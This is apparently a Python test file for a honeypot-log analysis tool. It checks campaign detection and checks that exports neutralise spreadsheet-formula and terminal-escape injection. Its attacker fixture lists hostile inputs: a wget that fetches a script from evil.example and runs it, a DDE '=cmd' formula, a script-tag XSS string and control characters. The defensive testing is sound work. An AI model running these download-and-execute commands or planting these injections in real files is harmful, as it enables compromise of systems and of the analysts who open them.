"""`clew analyze` and `clew campaign`, with what attackers typed on the way to terminals and spreadsheets."""

import csv
import io
import json
from pathlib import Path
from typing import Any

from tests.support.attacks import START, Operator, background
from tests.support.loading import log
from tests.support.program import Program

EVIL = Operator(
    "evil",
    network="198.18.33",
    addresses=range(1, 13),
    commands=(
        "=cmd|' /C calc'!A0 evil99q",
        "wget http://evil.example/\x1b[31mred.sh -O .evil99",
        "+sum(1+1) evil99x <script>alert(1)</script>",
        "chmod +x .evil99; ./.evil99 \u202eevil",
    ),
)


def documents(program: Program, *arguments: str) -> list[dict[str, Any]]:
    """The list that a command gives."""
    found = json.loads(program.run(*arguments, "--json").output)
    assert isinstance(found, list)
    return found


def test_campaigns_are_found_shown_explained_decided_and_exported(prepared: Program, tmp_path: Path) -> None:
    lines = [*background(START, sources=150), *EVIL.lines(START)]
    prepared.run("ingest", str(log(tmp_path / "cowrie.json", lines)))
    report = prepared.json("analyze", "--depth", "standard")
    assert {"analysis_id", "status", "sessions", "confidence", "scores", "campaigns", "seconds"} <= report.keys()
    assert report["scores"].keys() == {"temporal", "behavioral", "infrastructure", "geographic"}
    assert (report["status"], report["sessions"]) == ("completed", 185)
    (listed,) = documents(prepared, "campaign", "list")
    assert {"id", "name", "status", "confidence", "sources", "sessions", "first_seen", "last_seen"} <= listed.keys()
    assert report["campaigns"] == [listed["id"]]
    shown = prepared.json("campaign", "show", listed["name"])
    assert shown["source_ips"] == [f"198.18.33.{number}" for number in range(1, 13)]
    assert len(shown["session_ids"]) == listed["sessions"] == 35
    assert all({"type", "value", "confidence", "count"} <= each.keys() for each in shown["indicators"])
    assert all({"kind", "score", "text", "refs"} <= each.keys() for each in shown["evidence"])
    assert {each["id"] for each in shown["techniques"]} >= {"T1105", "T1222.002"}
    together = prepared.json("campaign", "explain", "198.18.33.1", "198.18.33.2")
    alone = prepared.json("campaign", "explain", "198.18.33.1", "198.19.1.2")
    assert together["probability"] > alone["probability"]
    assert together["evidence"]
    logged = (tmp_path / "cowrie.json").read_text().splitlines()
    for evidence in (*shown["evidence"], *together["evidence"]):
        sessions = {ref for ref in evidence["refs"] if ref in shown["session_ids"]}
        assert {each["session_id"] for each in evidence["lines"]} == sessions
        for each in evidence["lines"]:
            first, last = (json.loads(logged[each[name] - 1]) for name in ("first_line", "last_line"))
            assert each["file"] == "cowrie.json"
            assert first["session"] == last["session"]
            assert first["src_ip"] in shown["source_ips"]
    assert "cowrie.json" in prepared.run("campaign", "explain", "198.18.33.1", "198.18.33.2").output
    assert prepared.error("campaign", "explain", "198.18.33.1", "192.0.2.1", expect=5)["code"] == "not_found"

    for output in (prepared.run("campaign", "show", listed["id"]).output, prepared.run("campaign", "export").output):
        assert "\x1b" not in output
        assert "\u202e" not in output
    exported = list(csv.DictReader(io.StringIO(prepared.run("campaign", "export", "--format", "csv").output)))
    assert {each["type"] for each in exported} >= {"ip", "hash", "domain"}
    assert not [each["value"] for each in exported if each["value"].startswith(("=", "+", "-", "@"))]
    assert [each["value"] for each in exported if each["value"].startswith("'=cmd")]
    (whole,) = documents(prepared, "campaign", "export")
    assert whole["source_ips"] == shown["source_ips"]

    (renamed,) = documents(prepared, "campaign", "rename", listed["id"], "Black Tide")
    assert renamed["name"] == "Black Tide"
    assert documents(prepared, "campaign", "reject", "Black Tide")[0]["is_rejected"]
    assert documents(prepared, "campaign", "list") == []
    assert documents(prepared, "campaign", "undo", "Black Tide")[0]["is_rejected"] is False
    assert prepared.error("campaign", "show", "Nobody", expect=5)["code"] == "not_found"
    assert prepared.json("analyze", "--since", "2025-03-10")["sessions"] == 0
